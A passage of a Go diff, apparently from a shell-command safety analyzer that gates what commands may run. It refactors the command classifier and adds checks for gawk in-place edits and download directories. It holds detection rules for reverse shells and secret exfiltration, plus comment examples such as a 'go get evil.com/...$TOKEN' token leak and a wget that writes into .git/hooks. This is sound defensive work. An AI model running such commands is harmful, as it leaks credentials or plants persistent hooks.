@@ -34,15 +34,6 @@ var harmlessShopt = map[string]bool{"nullglob": true, "globstar": true, "dotglob
 	"cmdhist": true, "lithist": true, "checkwinsize": true, "inherit_errexit": true, "direxpand": true, "dirspell": true,
 	"cdspell": true, "progcomp": true, "hostcomplete": true, "interactive_comments": true, "shift_verbose": true}
 
-// readers are read-only commands whose operands are files they read.
-var readers = map[string]bool{"cat": true, "head": true, "tail": true, "wc": true, "file": true, "stat": true, "ls": true,
-	"tree": true, "du": true, "df": true, "diff": true, "cmp": true, "sort": true, "uniq": true, "cut": true, "tr": true,
-	"nl": true, "od": true, "hexdump": true, "xxd": true, "strings": true, "md5sum": true, "sha1sum": true,
-	"sha256sum": true, "sha512sum": true, "shasum": true, "cksum": true, "b2sum": true, "base64": true, "tac": true,
-	"rev": true, "fold": true, "fmt": true, "expand": true, "unexpand": true, "paste": true, "join": true, "comm": true,
-	"column": true, "bat": true, "eza": true, "exa": true, "lsd": true, "md5": true, "less": false, "more": false,
-	"zcat": true, "gzcat": true, "bzcat": true, "xzcat": true, "lzcat": true, "zstdcat": true, "plutil": true}
-
 // pagers and editors open the files they are given.
 var pagers = map[string]bool{"less": true, "more": true, "most": true, "pg": true, "view": true, "vi": true, "vim": true,
 	"nvim": true, "nano": true, "emacs": true, "pico": true, "micro": true, "ed": true, "ex": true, "code": true, "subl": true,
@@ -90,13 +81,6 @@ func blockWrites(lb string, args []word) bool {
 	return true
 }
 
-// listers show names and metadata, not contents.
-var listers = map[string]bool{"ls": true, "tree": true, "du": true, "df": true, "stat": true, "eza": true, "exa": true, "lsd": true}
-
-// counters show counts or types, not contents: a dynamic path they get from
-// a project listing is harmless.
-var counters = map[string]bool{"ls": true, "du": true, "stat": true, "wc": true, "file": true}
-
 func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) summary {
 	var s summary
 	for _, n := range builtinTargets(lb, args) {
@@ -128,8 +112,71 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 			}
 		}
 	}
-	safe := func(why string) { f.safe = reason("gate.safe", why) }
 	s.or(a.subcmdEffects(f, idx, lb, args))
+	c := plainCall{a: a, f: f, idx: idx, lb: lb, args: args, sc: sc, s: s}
+	switch { // the first family with an arm for the command decides it
+	case c.shellState(), c.shellVars(), c.shellRuns(), c.readers(), c.searches(), c.files(), c.infra(), c.builds():
+	}
+	if c.done {
+		return c.s // jobs -x: the inner command's summary
+	}
+	c.prints()
+	s = c.s
+	if reads, writes, ok := socatLocal(lb, args); ok {
+		// socat FILE:a FILE:b is a copy, like cp: its files are read and written
+		for _, w := range reads {
+			a.readWord(w, sc, idx, false)
+		}
+		for _, w := range writes {
+			a.writeWord(w, sc, idx)
+		}
+	} else if (netTools[lb] || lookupSubcmd(uploaders, lb, args) || reachesNetwork(lb, args)) && !(lb == "rsync" && !remoteArgs(args)) { // a local rsync is a copy
+		s.or(a.network(f, idx, lb, args, sc))
+	} else if !parsedOptions[lb] {
+		a.flagValueSecrets(lb, args, sc, idx, nil)
+	}
+	for _, w := range args {
+		if w.taint && s.net || w.secretName != "" && s.net && secretOffService(w.secretName, a.hostsOf(idx)) {
+			f.floor = reason("floor.exfil", "a secret or the environment is sent to the network")
+		}
+		// git clone, pip install -i, npm i URL fetch the URL they are given:
+		// a token in it goes to that host as surely as with curl
+		if w.secretName != "" && urlFetchers[lb] {
+			h := urlHost(w.val)
+			if p, _, _ := strings.Cut(w.val, "/"); h == "" && lb == "go" && strings.Contains(p, ".") {
+				h = p // go get evil.com/m@$TOKEN: a module path starts with its host
+			}
+			if h != "" && secretOffService(w.secretName, []string{h}) {
+				f.floor = reason("floor.exfil", lb+" sends a secret to another service's host in a URL")
+			}
+		}
+	}
+	return s
+}
+
+// plainCall is one command plain() decides: its fact, words and scope,
+// and the summary built so far. Its arms are grouped by family, in the
+// order plain's one switch had them, so the first arm that matches wins.
+type plainCall struct {
+	a    *analyzer
+	f    *rfact
+	idx  int
+	lb   string
+	args []word
+	sc   *scope
+	s    summary
+	done bool // s is the call's summary and nothing after the arms applies
+}
+
+// safe makes the command known-safe.
+func (c *plainCall) safe(why string) { c.f.safe = reason("gate.safe", why) }
+
+// shellState reads the builtins and commands that change the shell's state or its
+// persistence: cd, alias, direnv allow, hook installers, ssh-keygen, printenv.
+// It reports whether one of its arms matched.
+func (c *plainCall) shellState() bool {
+	a, f, idx, lb, args, sc := c.a, c.f, c.idx, c.lb, c.args, c.sc
+	s := &c.s
 	switch {
 	case lb == "cd" || lb == "pushd" || lb == "chdir":
 		ops := operands(args, nil)
@@ -145,7 +192,7 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 		default:
 			sc.cwd = a.resolvePath(args[ops[0]].val, sc.cwd, false).abs
 		}
-		safe("changes directory")
+		c.safe("changes directory")
 	case lb == "alias":
 		// alias NAME=VALUE: the value runs wherever NAME is called later
 		for _, w := range args {
@@ -167,7 +214,7 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 			f.safe = reason("gate.wrapper", "defines aliases; their values are analysed")
 		}
 	case lb == "unalias":
-		safe("removes aliases")
+		c.safe("removes aliases")
 	case lb == "direnv" && len(args) > 0 && (args[0].val == "allow" || args[0].val == "permit" || args[0].val == "grant"):
 		f.human = reason("human.persistence-write", "direnv allow lets .envrc run in every new shell")
 	case lb == "pre-commit" && len(args) > 0 && (args[0].val == "install" || args[0].val == "install-hooks") ||
@@ -180,7 +227,7 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 		}
 	case lb == "popd":
 		sc.cwd = ""
-		safe("changes directory")
+		c.safe("changes directory")
 	case lb == "printenv":
 		// printenv NAME… prints those variables only, like echo "$NAME":
 		// human-only for the whole environment or a name that holds a secret
@@ -191,8 +238,21 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 			f.human = reason("human.env-dump", "prints the environment")
 			s.taint = true
 		} else {
-			safe("printenv prints the named variables")
+			c.safe("printenv prints the named variables")
 		}
+	default:
+		return false
+	}
+	return true
+}
+
+// shellVars reads the builtins that print or fill variables and the command
+// table: set, hash, mapfile -C, history, compgen.
+// It reports whether one of its arms matched.
+func (c *plainCall) shellVars() bool {
+	a, f, idx, lb, args, sc := c.a, c.f, c.idx, c.lb, c.args, c.sc
+	s := &c.s
+	switch {
 	case lb == "set":
 		switch {
 		case len(args) == 0:
@@ -211,7 +271,7 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 			}
 			// set -a exports what builtins assign later (printf -v GIT_PAGER)
 			a.allexport = a.allexport || hasShort(args, "a") || hasWord(args, "allexport")
-			safe("sets shell options")
+			c.safe("sets shell options")
 		}
 	case lb == "hash":
 		// hash -p PATH NAME: NAME now runs PATH
@@ -225,7 +285,7 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 			}
 		}
 		if f.ask == nil {
-			safe("lists or clears the command hash table")
+			c.safe("lists or clears the command hash table")
 		}
 	case (lb == "mapfile" || lb == "readarray" || lb == "compgen") && len(optionValues(args, 'C', "")) > 0:
 		// mapfile -C CODE, compgen -C CODE: the shell runs CODE
@@ -257,6 +317,19 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 	case lb == "compgen" && hasFlag(args, "-v", "-e"):
 		f.human = reason("human.env-dump", "lists the environment")
 		s.taint = true
+	default:
+		return false
+	}
+	return true
+}
+
+// shellRuns reads the builtins that run what the shell keeps: trap, shopt,
+// ulimit, jobs -x, and sysctl NAME=VALUE.
+// It reports whether one of its arms matched.
+func (c *plainCall) shellRuns() bool {
+	a, f, idx, lb, args, sc := c.a, c.f, c.idx, c.lb, c.args, c.sc
+	s := &c.s
+	switch {
 	case lb == "trap":
 		// trap's first argument is code the shell runs later
 		ops := operands(args, nil)
@@ -275,7 +348,7 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 				s.or(branch(sc, func(in *scope) summary { return a.reparseIn(w.val, in, idx) }))
 			}
 		} else {
-			safe("lists traps")
+			c.safe("lists traps")
 		}
 	case lb == "shopt":
 		// glob, history and message options; others (lastpipe, cdable_vars,
@@ -285,10 +358,10 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 			ok = ok && !w.dyn && (strings.HasPrefix(w.val, "-") || harmlessShopt[w.val])
 		}
 		if ok || hasShort(args, "pq") && !hasShort(args, "su") {
-			safe("sets glob or history options")
+			c.safe("sets glob or history options")
 		}
 	case (lb == "ulimit" || lb == "umask") && len(operands(args, nil)) == 0 && !hasFlag(args, "-"):
-		safe(lb + " without a value only prints it")
+		c.safe(lb + " without a value only prints it")
 	case lb == "jobs" && hasShort(args, "x"):
 		// jobs -x CMD ARGS runs CMD
 		for i, w := range args {
@@ -296,7 +369,8 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 				f.wrapper = true
 				f.safe = reason("gate.wrapper", "jobs -x runs the inner command, which is analysed")
 				if i+1 < len(args) {
-					return a.inner(args[i+1:], sc, idx)
+					c.s, c.done = a.inner(args[i+1:], sc, idx), true
+					return true
 				}
 				break
 			}
@@ -304,6 +378,19 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 	case lb == "sysctl" && slices.ContainsFunc(args, func(w word) bool { return strings.Contains(w.val, "=") }):
 		// sysctl NAME=VALUE writes /proc/sys like -w does
 		f.human = reason("human.system-write", "sysctl changes a kernel setting")
+	default:
+		return false
+	}
+	return true
+}
+
+// readers reads the programs that read or print: info printers, the table's
+// readers, pagers, block tools.
+// It reports whether one of its arms matched.
+func (c *plainCall) readers() bool {
+	a, f, idx, lb, args, sc := c.a, c.f, c.idx, c.lb, c.args, c.sc
+	s := &c.s
+	switch {
 	case otherTools[lb]:
 		s.or(a.otherTool(f, idx, lb, args, sc))
 	case noOperand[lb]:
@@ -337,9 +424,9 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 			s.taint = true
 		case lb == "hostname" && len(operands(args, nil)) > 0:
 		default:
-			safe(lb + " is read-only")
+			c.safe(lb + " is read-only")
 		}
-	case readers[lb]:
+	case cmds.Reader(lb) != nil:
 		if out := a.reader(f, idx, lb, args, sc); out != nil {
 			s.out = out // cat with no operand passes its stdin on
 		}
@@ -361,6 +448,18 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 				f.floor = reason("floor.disk-write", lb+" rewrites a disk device")
 			}
 		}
+	default:
+		return false
+	}
+	return true
+}
+
+// searches reads the searches and the languages: grep, sed, awk, jq, fd.
+// It reports whether one of its arms matched.
+func (c *plainCall) searches() bool {
+	a, f, idx, lb, args, sc := c.a, c.f, c.idx, c.lb, c.args, c.sc
+	s := &c.s
+	switch {
 	case lb == "grep" || lb == "egrep" || lb == "fgrep" || lb == "rg" || lb == "ag" || lb == "ack" || lb == "zgrep":
 		a.grep(f, idx, lb, args, sc)
 	case lb == "sed" || lb == "gsed":
@@ -379,7 +478,7 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 			f.ask = reason("ask.flag", "fd --exec runs a command")
 			opts = args[:x]
 		} else {
-			safe("fd only lists")
+			c.safe("fd only lists")
 		}
 		ops := operands(opts, fdVal)
 		var roots []word
@@ -402,12 +501,24 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 				a.execOverTree(f, idx, lb, cmd, roots, fdRepl(), sc)
 			}
 		}
+	default:
+		return false
+	}
+	return true
+}
+
+// files reads the programs that write, delete or move files, and the
+// services, package, formatter and infrastructure tools.
+// It reports whether one of its arms matched.
+func (c *plainCall) files() bool {
+	a, f, idx, lb, args, sc := c.a, c.f, c.idx, c.lb, c.args, c.sc
+	switch {
 	case lb == "tee":
 		for _, i := range operands(args, nil) {
 			a.writeWord(args[i], sc, idx)
 		}
 		if len(operands(args, nil)) == 0 {
-			safe("tee without files")
+			c.safe("tee without files")
 		}
 	case lb == "rm" || lb == "rmdir" || lb == "unlink" || lb == "shred" || lb == "srm" || lb == "trash" || lb == "trash-put" || lb == "rimraf" || lb == "del-cli":
 		how := rmPlain
@@ -435,11 +546,11 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 		}
 	case strings.HasPrefix(lb, "mkfs") || strings.HasPrefix(lb, "newfs") || formatters[lb]:
 		f.floor = reason("floor.mkfs", lb+" formats a disk")
-	case lb == "ttyd" || lb == "gotty":
+	case slices.Contains([]string{"ttyd", "gotty", "ztcp", "zsocket"}, lb): // zsh's ztcp is its /dev/tcp
 		f.floor = reason("floor.reverse-shell", lb+" exposes a shell to the network")
 	case lb == "crontab":
 		if hasFlag(args, "-l") && len(args) == 1 {
-			safe("crontab -l only lists")
+			c.safe("crontab -l only lists")
 		} else {
 			f.human = reason("human.persistence-write", "changes the crontab")
 		}
@@ -453,7 +564,7 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 			if hasLongAbbrev(args, "--host", "--machine") || hasShort(args, "HM") {
 				f.ask = reason("ask.flag", lb+" --host connects to another machine over ssh")
 			} else {
-				safe(lb + " only inspects")
+				c.safe(lb + " only inspects")
 			}
 		}
 	case lb == "npm" || lb == "pnpm" || lb == "yarn":
@@ -465,14 +576,14 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 		if ops := operands(args, nil); len(ops) > 0 {
 			a.readWord(args[ops[0]], sc, idx, false)
 		}
-		safe("zipinfo only lists an archive")
+		c.safe("zipinfo only lists an archive")
 	case lb == "ss":
 		// ss -ltnp lists sockets; -K kills them, and -F, -D, -f, -A, -N
 		// and filter expressions take values
 		if !slices.ContainsFunc(args, func(w word) bool {
 			return w.dyn || len(w.val) < 2 || w.val[0] != '-' || strings.Trim(w.val[1:], "ltuanpxw46eimsrHOo") != ""
 		}) {
-			safe("ss only lists sockets")
+			c.safe("ss only lists sockets")
 		}
 	case lb == "gofmt":
 		// -w rewrites the files; -l, -d, -s only print
@@ -488,10 +599,22 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 			}
 		}
 		if !hasShort(args, "w") && len(flagValues(args, "-cpuprofile")) == 0 {
-			safe("gofmt without -w only prints")
+			c.safe("gofmt without -w only prints")
 		}
 	case lb == "eslint" || lb == "prettier":
 		a.fixer(f, idx, lb, args, sc)
+	default:
+		return false
+	}
+	return true
+}
+
+// infra reads the infrastructure and build tools that delete or run: terraform,
+// kubectl, dropdb, cloud deletes, build-tool flags, cargo.
+// It reports whether one of its arms matched.
+func (c *plainCall) infra() bool {
+	a, f, idx, lb, args, sc := c.a, c.f, c.idx, c.lb, c.args, c.sc
+	switch {
 	case lb == "terraform" || lb == "tofu" || lb == "pulumi" || lb == "cdk" || lb == "cdktf" || lb == "sst" || lb == "serverless" || lb == "sls":
 		if hasWord(args, "destroy") || hasWord(args, "remove") || hasFlag(args, "-destroy", "--destroy") {
 			f.human = reason("human.teardown", lb+" destroys infrastructure")
@@ -537,6 +660,17 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 				}
 			}
 		}
+	default:
+		return false
+	}
+	return true
+}
+
+// builds reads go, make, the container tools, patch, shuf and the archivers.
+// It reports whether one of its arms matched.
+func (c *plainCall) builds() bool {
+	a, f, idx, lb, args, sc := c.a, c.f, c.idx, c.lb, c.args, c.sc
+	switch {
 	case lb == "go":
 		a.goCmd(f, idx, args, sc)
 	case lb == "make" || lb == "gmake":
@@ -545,12 +679,12 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 		if len(args) > 0 {
 			switch args[0].val {
 			case "ps", "images", "version", "info", "logs", "port":
-				safe(lb + " " + args[0].val + " only inspects")
+				c.safe(lb + " " + args[0].val + " only inspects")
 			case "compose":
 				// compose ps/logs are docker ps/logs of the project's
 				// services; compose config would print the interpolated .env
 				if len(args) > 1 && (args[1].val == "ps" || args[1].val == "logs" || args[1].val == "version" || args[1].val == "ls") {
-					safe(lb + " compose " + args[1].val + " only inspects")
+					c.safe(lb + " compose " + args[1].val + " only inspects")
 				}
 				if slices.ContainsFunc(args[1:], func(w word) bool { return w.val == "config" }) && !hasFlag(args, "--no-interpolate") {
 					// it prints the compose file with the project's .env filled in
@@ -558,7 +692,7 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 				}
 			case "network", "volume":
 				if len(args) == 2 && args[1].val == "ls" {
-					safe(lb + " " + args[0].val + " ls only lists")
+					c.safe(lb + " " + args[0].val + " ls only lists")
 				}
 			case "build", "buildx", "image":
 				a.dockerBuild(f, idx, args, sc)
@@ -568,7 +702,7 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 				if tmpl := optionValues(args, 'f', "--format"); len(tmpl) == 0 || slices.ContainsFunc(tmpl, dockerTemplateMayPrintEnv) {
 					f.ask = reason("ask.flag", lb+" inspect prints container environment variables")
 				} else {
-					safe(lb + " inspect prints the fields its template names")
+					c.safe(lb + " inspect prints the fields its template names")
 				}
 			case "cp":
 				a.copyOut(args[1:], sc, idx)
@@ -599,10 +733,21 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 		}
 	case lb == "tar" || lb == "unzip" || lb == "gunzip" || lb == "zip" || lb == "gzip" || lb == "7z" || lb == "7za" || lb == "7zr" || lb == "bsdtar":
 		a.archive(f, idx, lb, args, sc)
+	default:
+		return false
 	}
+	return true
+}
+
+// prints says what the command prints when it is known-safe: its version,
+// or names of project files (and whether they may be secrets' names)
+// for what reads its output.
+func (c *plainCall) prints() {
+	a, f, idx, lb, args, sc := c.a, c.f, c.idx, c.lb, c.args, c.sc
+	s := &c.s
 	if f.safe == nil && f.ask == nil && f.human == nil && f.floor == nil && versionTools[lb] && len(args) == 1 &&
 		(args[0].val == "--version" || args[0].val == "-V" || args[0].val == "version" || args[0].val == "-version") {
-		safe(lb + " prints its version")
+		c.safe(lb + " prints its version")
 	}
 	switch {
 	case (lb == "rg" || lb == "grep" || lb == "fd" || lb == "fdfind") && f.safe != nil &&
@@ -643,36 +788,6 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 		s.secretList = s.projList && a.stdin.secretList && (lb != "grep" && lb != "rg" || filterMayKeepSecret(lb, args))
 		s.broadList = s.secretList && a.stdin.broadList && lb != "grep" && lb != "rg"
 	}
-	if reads, writes, ok := socatLocal(lb, args); ok {
-		// socat FILE:a FILE:b is a copy, like cp: its files are read and written
-		for _, w := range reads {
-			a.readWord(w, sc, idx, false)
-		}
-		for _, w := range writes {
-			a.writeWord(w, sc, idx)
-		}
-	} else if (netTools[lb] || lookupSubcmd(uploaders, lb, args) || reachesNetwork(lb, args)) && !(lb == "rsync" && !remoteArgs(args)) { // a local rsync is a copy
-		s.or(a.network(f, idx, lb, args, sc))
-	} else if !parsedOptions[lb] {
-		a.flagValueSecrets(lb, args, sc, idx, nil)
-	}
-	for _, w := range args {
-		if w.taint && s.net || w.secretName != "" && s.net && secretOffService(w.secretName, a.hostsOf(idx)) {
-			f.floor = reason("floor.exfil", "a secret or the environment is sent to the network")
-		}
-		// git clone, pip install -i, npm i URL fetch the URL they are given:
-		// a token in it goes to that host as surely as with curl
-		if w.secretName != "" && urlFetchers[lb] {
-			h := urlHost(w.val)
-			if p, _, _ := strings.Cut(w.val, "/"); h == "" && lb == "go" && strings.Contains(p, ".") {
-				h = p // go get evil.com/m@$TOKEN: a module path starts with its host
-			}
-			if h != "" && secretOffService(w.secretName, []string{h}) {
-				f.floor = reason("floor.exfil", lb+" sends a secret to another service's host in a URL")
-			}
-		}
-	}
-	return s
 }
 
 // urlFetchers are package managers and VCS tools that fetch a URL operand
@@ -2449,7 +2564,7 @@ func (a *analyzer) awk(f *rfact, idx int, args []word, sc *scope) (readsEnv bool
 	// gawk accepts) may load code from elsewhere, and asks.
 	var progs, ops []word
 	ok := true
-	dd := false
+	dd, inplace := false, false
 	for i := 0; i < len(args); i++ {
 		w := args[i]
 		v := w.val
@@ -2483,6 +2598,12 @@ func (a *analyzer) awk(f *rfact, idx int, args []word, sc *scope) (readsEnv bool
 			// --version, --posix, --sandbox, --lint, -M, ...: no code, no files
 		case v == "-W" && i+1 < len(args) && (args[i+1].val == "version" || args[i+1].val == "v"):
 			next() // mawk -W version
+		case awkInplace(args[i:]):
+			// gawk -i inplace rewrites every file operand
+			inplace, ok = true, false
+			if v == "-i" || !strings.Contains(v, "=") && strings.HasPrefix(v, "--") {
+				next()
+			}
 		case v == "-f" || v == "--file":
 			if i+1 < len(args) {
 				if args[i+1].val == "-" && !args[i+1].dyn {
@@ -2510,6 +2631,9 @@ func (a *analyzer) awk(f *rfact, idx int, args []word, sc *scope) (readsEnv bool
 			continue // var=value operand
 		}
 		a.readWord(w, sc, idx, false)
+		if inplace || slices.ContainsFunc(progs, func(p word) bool { return awkIncludesInplace().MatchString(p.val) }) {
+			a.writeWord(w, sc, idx)
+		}
 	}
 	for _, p := range progs {
 		v := p.val
@@ -2569,6 +2693,28 @@ func (a *analyzer) awk(f *rfact, idx int, args []word, sc *scope) (readsEnv bool
 	}
 	return readsEnv
 }
+
+// awkInplace reports gawk's in-place extension loaded by the option at the
+// head of args: -i inplace, -iinplace.awk, --include=inplace, --incl inplace.
+func awkInplace(args []word) bool {
+	v, val := args[0].val, ""
+	switch {
+	case v == "-i" || strings.HasPrefix(v, "--") && !strings.Contains(v, "=") && len(v) > 4 && strings.HasPrefix("--include", v):
+		if len(args) > 1 {
+			val = args[1].val
+		}
+	case strings.HasPrefix(v, "-i"):
+		val = v[2:]
+	case strings.HasPrefix(v, "--") && len(v) > 4 && strings.HasPrefix("--include", v[:strings.IndexByte(v+"=", '=')]):
+		_, val, _ = strings.Cut(v, "=")
+	default:
+		return false
+	}
+	return strings.TrimSuffix(path.Base(val), ".awk") == "inplace"
+}
+
+// awkIncludesInplace matches a program that loads the in-place extension.
+var awkIncludesInplace = lazyRE(`@include\s*"inplace(\.awk)?"`)
 
 // awkHarmless are awk options that load no code and open no file.
 var awkHarmless = map[string]bool{"--version": true, "--posix": true, "--traditional": true, "--compat": true,
@@ -2695,7 +2841,7 @@ func (a *analyzer) network(f *rfact, idx int, lb string, args []word, sc *scope)
 			continue
 		case (v == "-o" || v == "--output" || v == "-O" && lb == "wget" || v == "--output-document") && i+1 < len(args) && sshVals[lb] == nil:
 			mid := len(a.facts)
-			a.writeWord(args[i+1], sc, idx)
+			a.writeWord(savedIn(args, lb, args[i+1]), sc, idx)
 			for _, g := range a.facts[mid:] {
 				a.markFetched(g.path)
 			}
@@ -2850,9 +2996,11 @@ func (a *analyzer) network(f *rfact, idx int, lb string, args []word, sc *scope)
 		lb == "wget" && len(optionValues(args, 'O', "--output-document")) == 0 && !hasFlag(args, "--spider") {
 		for _, w := range args {
 			if u, err := url.Parse(w.val); err == nil && u.Host != "" && !w.dyn && path.Base(u.Path) != "/" && path.Base(u.Path) != "." {
-				r := a.resolvePath(path.Base(u.Path), sc.cwd, true)
-				a.writeFact(r, idx)
-				a.markFetched(r)
+				mid := len(a.facts)
+				a.writeWord(savedIn(args, lb, word{val: path.Base(u.Path)}), sc, idx)
+				for _, g := range a.facts[mid:] {
+					a.markFetched(g.path)
+				}
 			}
 		}
 	}
@@ -2866,6 +3014,23 @@ func (a *analyzer) network(f *rfact, idx int, lb string, args []word, sc *scope)
 		}
 	}
 	return s
+}
+
+// savedIn is where a downloader saves the file name: in the directory of
+// curl --output-dir or wget -P/--directory-prefix when one is given
+// (wget -P .git/hooks URL writes a hook).
+func savedIn(args []word, lb string, name word) word {
+	dirs := optionValues(args, 'P', "--directory-prefix")
+	if lb == "curl" {
+		dirs = optionValues(args, 0, "--output-dir")
+	} else if lb != "wget" {
+		return name
+	}
+	if len(dirs) == 0 || strings.HasPrefix(name.val, "/") || name.val == "-" {
+		return name
+	}
+	d := dirs[len(dirs)-1]
+	return word{val: strings.TrimSuffix(d.val, "/") + "/" + name.val, dyn: d.dyn || name.dyn}
 }
 
 // sshCommand analyses the command ssh runs on the remote host as if it ran
@@ -3531,587 +3696,6 @@ func ownRepo(r pathRef, project string, gitDir, dyn bool) bool {
 	got, err1 := filepath.EvalSymlinks(r.abs)
 	real, err2 := filepath.EvalSymlinks(want)
 	return err1 == nil && err2 == nil && got == real
-}
-
-// git polices git's global options and subcommands (SPEC §5.2, §5.4).
-func (a *analyzer) git(f *rfact, idx int, args []word, sc *scope) summary {
-	cwd := sc.cwd
-	unsafe := ""
-	i := 0
-	cwdChanged, otherRepo := false, false
-	var workTree pathRef
-loop:
-	for i < len(args) {
-		v := args[i].val
-		switch {
-		case v == "-C":
-			if i+1 < len(args) {
-				if args[i+1].dyn {
-					cwd = ""
-				} else {
-					cwd = a.resolvePath(args[i+1].val, cwd, false).abs
-				}
-			}
-			cwdChanged = true
-			i += 2
-		case v == "-c" || v == "--config-env":
-			unsafe = "git " + v + " sets configuration that can run programs"
-			if v == "-c" && i+1 < len(args) {
-				a.gitConfigCommand(args[i+1].val, sc, idx)
-				if k, _, _ := strings.Cut(args[i+1].val, "="); gitIncludeKey().MatchString(strings.ToLower(k)) {
-					a.gitConfigFile(word{val: args[i+1].val[len(k)+1:], dyn: args[i+1].dyn, procText: args[i+1].procText, sub: args[i+1].sub}, sc, idx)
-				}
-			}
-			i += 2
-		case strings.HasPrefix(v, "--exec-path") || strings.HasPrefix(v, "--config-env="):
-			unsafe = "git " + v
-			i++
-		case v == "--git-dir" || v == "--work-tree" || strings.HasPrefix(v, "--git-dir=") || strings.HasPrefix(v, "--work-tree="):
-			// another repository or work tree: like git -C for reads
-			p, eq := "", false
-			if _, p, eq = strings.Cut(v, "="); !eq && i+1 < len(args) {
-				p = args[i+1].val
-				i++
-			}
-			r := a.resolvePath(p, cwd, false)
-			if p == "" || args[i].dyn || !a.inProject(r) {
-				otherRepo = true
-			}
-			if !ownRepo(r, a.env.Project, strings.HasPrefix(v, "--git-dir"), args[i].dyn) && unsafe == "" {
-				// another .git's config can run programs (core.fsmonitor, core.pager)
-				unsafe = "git " + strings.SplitN(v, "=", 2)[0] + " names a repository or work tree other than the project's own"
-			}
-			if strings.HasPrefix(v, "--work-tree") {
-				workTree = a.resolveMaybe(args[i], p, &scope{cwd: cwd}, true)
-			}
-			i++
-		case v == "--namespace" || v == "--super-prefix":
-			i += 2
-		case strings.HasPrefix(v, "-"):
-			i++
-		default:
-			break loop
-		}
-	}
-	g := f
-	gidx := idx
-	if i > 0 && i < len(args) {
-		// analyse "git SUB ..." without the global options, so rules on
-		// git push also see git -C dir push
-		f.wrapper = true
-		f.safe = reason("gate.wrapper", "git global options; the subcommand is analysed")
-		if unsafe != "" {
-			f.safe, f.ask = nil, reason("ask.flag", unsafe)
-		}
-		argv := append([]string{"git"}, f.argv[i+1:]...)
-		g = &rfact{kind: protocol.FactExec, argv: argv, static: max(0, f.static-i), parent: idx, cwd: cwd}
-		gidx = a.add(g)
-		a.noAlways = a.noAlways || cwdChanged || otherRepo
-	}
-	gsc := &scope{cwd: cwd}
-	if i >= len(args) {
-		if unsafe == "" {
-			g.safe = reason("gate.safe", "git without a subcommand prints help")
-		}
-		return summary{}
-	}
-	sub := args[i].val
-	rest := args[i+1:]
-	human := func(code, why string) { g.human = reason(code, why) }
-	safe := func() {
-		if unsafe == "" {
-			g.safe = reason("gate.safe", "git "+sub+" only reads")
-		}
-	}
-	a.gitRunsCommand(sub, rest, gsc, gidx)
-	if lookupSubcmd(configWriters, "git", args[i:]) {
-		human("human.persistence-write", "git "+sub+" installs hooks or scheduled jobs")
-	}
-	if sub == "commit" || sub == "tag" || sub == "notes" || sub == "merge" {
-		// the message file (-F, --file, -t, --template) is read into history
-		for j, w := range rest {
-			v := w.val
-			switch {
-			case (v == "-F" || v == "--file" || v == "-t" || v == "--template") && j+1 < len(rest):
-				a.readWord(rest[j+1], gsc, gidx, false)
-			case strings.HasPrefix(v, "--file=") || strings.HasPrefix(v, "--template="):
-				_, p, _ := strings.Cut(v, "=")
-				a.readWord(word{val: p, dyn: w.dyn}, gsc, gidx, false)
-			case strings.HasPrefix(v, "-F") && len(v) > 2:
-				a.readWord(word{val: v[2:], dyn: w.dyn}, gsc, gidx, false)
-			}
-		}
-	}
-	var gs searchCmd // git grep's command line, read once
-	if sub == "grep" {
-		gs = parseSearch("git-grep", rest)
-		for _, c := range gs.preCmds {
-			a.reparse(c, gsc, gidx) // the pager runs through the shell
-		}
-	}
-	// git takes unambiguous abbreviations of long options (--outp, --ext-d)
-	if hasLongAbbrev(rest, "--output", "--ext-diff", "--exec-path", "--upload-pack", "--receive-pack", "--exec", "--open-files-in-pager") || hasShortPrefix(rest, "-O") ||
-		gs.pre { // git grep -iOid: -O takes the rest of the cluster as its pager
-		unsafe = "git " + sub + " with a flag that writes files or runs programs"
-		// flag-policed: asks whatever rule covers git SUB
-		g.ask = reason("ask.flag", unsafe)
-		for j, w := range rest {
-			if n, v, eq := strings.Cut(strings.TrimPrefix(w.val, "--"), "="); strings.HasPrefix(w.val, "--") && n != "" && strings.HasPrefix("output", n) {
-				if !eq && j+1 < len(rest) {
-					v = rest[j+1].val
-				}
-				a.writeFact(a.resolveMaybe(w, v, gsc, true), -1)
-			}
-		}
-	}
-	ops := operands(rest, nil)
-	opVals := func() []string {
-		out := make([]string, 0, len(ops))
-		for _, o := range ops {
-			out = append(out, rest[o].val)
-		}
-		return out
-	}
-	switch sub {
-	case "push", "fetch", "pull", "clone", "ls-remote", "submodule", "send-email", "request-pull", "archive":
-		var hosts []string
-		for _, w := range args {
